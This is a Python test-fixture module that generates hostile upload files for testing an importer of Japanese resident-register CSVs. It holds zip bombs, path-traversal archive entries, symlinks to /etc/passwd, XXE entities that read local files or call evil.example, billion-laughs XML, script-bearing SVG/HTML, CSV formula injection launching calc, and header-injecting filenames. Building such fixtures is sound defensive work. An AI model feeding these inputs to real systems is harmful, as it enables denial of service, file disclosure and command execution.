"""Files that attack whoever opens them: archives, pictures, XML, tables, and files that are not what they say."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

BOMB = 50 * 2**20
HEADINGS = "世帯番号,氏名,氏名の振り仮名,性別,生年月日,続柄,住所,住民となった年月日"
LINE = "H1,見本 花,ミホン ハナ,女,S52.8.19,世帯主,盛岡市内丸12番2号,H27.4.1"


def zipped(parts: dict[str, bytes], *, symlink: bool = False) -> bytes:
    """An archive of these names."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (0o120777 if symlink else 0o644) << 16
            archive.writestr(info, data)
    return out.getvalue()


def archives() -> Iterator[tuple[str, bytes]]:
    """Bombs, ways out of the folder, links, archives in archives."""
    bomb = zipped({"a.csv": b"0" * BOMB})
    yield "bomb.zip", bomb
    yield "nested.zip", zipped({f"{number}.zip": bomb for number in range(20)})
    yield "many.zip", zipped({f"{number}.csv": b"" for number in range(20_000)})
    yield "same.zip", bomb + bomb
    for number, name in enumerate(("../../x", "/etc/cron.d/x", "..\\..\\x", "C:\\x", "a\0b", "./" * 200 + "x")):
        yield f"slip{number}.zip", zipped({name.replace("\0", "%00"): b"x"})
    yield "link.zip", zipped({"x": b"/etc/passwd"}, symlink=True)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("x")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    yield "link.tar", out.getvalue()
    yield "bomb.gz", gzip.compress(b"0" * BOMB, 1)
    yield "bomb.bz2", bz2.compress(b"0" * (BOMB // 10))
    yield "bomb.xz", lzma.compress(b"0" * (BOMB // 10), preset=0)


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def pictures() -> Iterator[tuple[str, bytes]]:
    """Pictures that are small as files and huge as pictures, and pictures that run."""
    for width, height in ((100_000, 100_000), (2**31 - 1, 1), (1, 2**31 - 1)):
        yield f"flood{width}.png", _png(width, height)
    yield "flood.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\0" * 6 + b",\0\0\0\0\xff\xff\xff\xff\0"
    yield "flood.jpg", b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03" + b"\0" * 20
    yield "flood.tif", b"II*\0\x08\0\0\0\x01\0\0\x01\x04\0\x01\0\0\0\xff\xff\xff\x7f\x08\0\0\0"
    yield "run.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="hostile()"><script>hostile()</script></svg>'
    yield "use.svg", b'<svg><use href="#a"/><g id="a"><use href="#a"/></g></svg>'
    yield "run.html", b"<html><script>hostile()</script>"
    yield "run.exe", b"MZ" + b"\0" * 1000
    yield "run.elf", b"\x7fELF" + b"\0" * 1000
    yield "run.sh", b"#!/bin/sh\nexit 0\n"
    yield "run.docm", zipped({"[Content_Types].xml": b"<x/>", "word/vbaProject.bin": b"x"})


def xmls() -> Iterator[tuple[str, bytes]]:
    """Entities that grow, that read files and that call out."""
    laughs = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12))
    bodies = {
        "laughs": f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]><x>&a11;</x>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 50_000}</x>',
        "file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        "address": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://evil.example/">]><x>&a;</x>',
        "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]><x/>',
        "outside": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
        "include": '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></x>',
        "style": '<?xml-stylesheet href="javascript:hostile()"?><x/>',
        "deep": "<x>" * 100_000,
        "wide": "<x " + " ".join(f'a{number}=""' for number in range(50_000)) + "/>",
        "soap": '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body Id="a"/><e:Body Id="a"/></e:Envelope>',
    }
    for name, body in bodies.items():
        yield f"{name}.xml", f'<?xml version="1.0"?>{body}'.encode()
        yield f"{name}.xlsx", zipped({"[Content_Types].xml": body.encode(), "xl/workbook.xml": body.encode()})


def tables() -> Iterator[tuple[str, bytes]]:
    """Tables with too much of everything, in every wrong encoding, torn, with names that run."""
    good = f"{HEADINGS}\r\n{LINE}\r\n"
    for encoding in (
        "utf-16",
        "utf-16-le",
        "utf-32",
        "utf-7",
        "euc-jp",
        "iso2022_jp",
        "shift_jis",
        "cp932",
        "utf-8-sig",
    ):
        yield f"{encoding}.csv", good.encode(encoding)
    yield "long_cell.csv", f"{HEADINGS}\r\n{'長' * 1_000_000}{LINE}".encode()
    yield "wide.csv", ("a," * 100_000).encode()
    yield "wide_row.csv", (good + "," * 100_000).encode()
    yield "wide_rows.csv", (good + '"\n",' * 300_000).encode()
    yield "endless_row.csv", b"," * 30_000_000
    yield "many_rows.csv", (good + "1\n" * 600_000).encode()
    yield "blank_rows.csv", (good + "\n" * 2_000_000).encode()
    yield "quotes.csv", b'"' * 1_000_001
    yield "odd_quotes.csv", (good + '"' + LINE * 10_000).encode()
    for name, text in {
        "nul": "a\0b", "surrogate": "\ud800", "halves": "\ud842\udfb7", "bidi": "\u202egpj", "bom": "\ufeff" * 5, "none": "", "space": " \r\n\r\n",
        "return": good.replace("\r\n", "\r"), "marks": good.replace("見本", "見本か\u3099"), "escape": good.replace("花", "\x1b[2J"),
        "markup": good.replace("見本", "<script>hostile()</script>"), "formula": good.replace("見本", "=cmd|'/C calc'!A0"),
        "formula_heading": good.replace("氏名,", "=1+1,"), "twice": good.replace("性別", "氏名"), "tabs": good.replace(",", "\t"),
        "markup_heading": good.replace("続柄", "<img src=x onerror=hostile()>"), "semicolons": good.replace(",", ";"),
        "era": good.replace("S52.8.19", "R99.99.99"), "year": good.replace("S52.8.19", "9999-12-31"), "past": good.replace("S52.8.19", "0001-01-01"),
        "digits": good.replace("S52.8.19", "9" * 5000), "address": good.replace("内丸", "丸" * 5000), "number": good.replace("H1", "9" * 300),
    }.items():  # fmt: skip
        yield f"{name}.csv", text.encode("utf-8", "surrogatepass")
    for part in range(1, 12):
        yield f"torn{part}.csv", good.encode()[: len(good.encode()) * part // 12]
    for number, bad in enumerate(
        (b"\xff", b"\xc0\x80", b"\xf5\x80\x80\x80", b"\xe3\x81", b"\x80", b"\xfd\xfe", b"\x81\x39")
    ):
        yield f"bytes{number}.csv", good.encode() + bad


def all_files() -> Iterator[tuple[str, bytes]]:
    """Every hostile file that is no PDF."""
    for group in (archives, pictures, xmls, tables):
        yield from group()


NAMES = (
    "../../x.csv",
    "x\0.csv",
    "長" * 300 + ".csv",
    "\u202evsc.exe",
    '"><hostile-tag>.csv',
    "a\r\nX-Hostile: 1.csv",
    "CON",
    "x" * 5000,
)
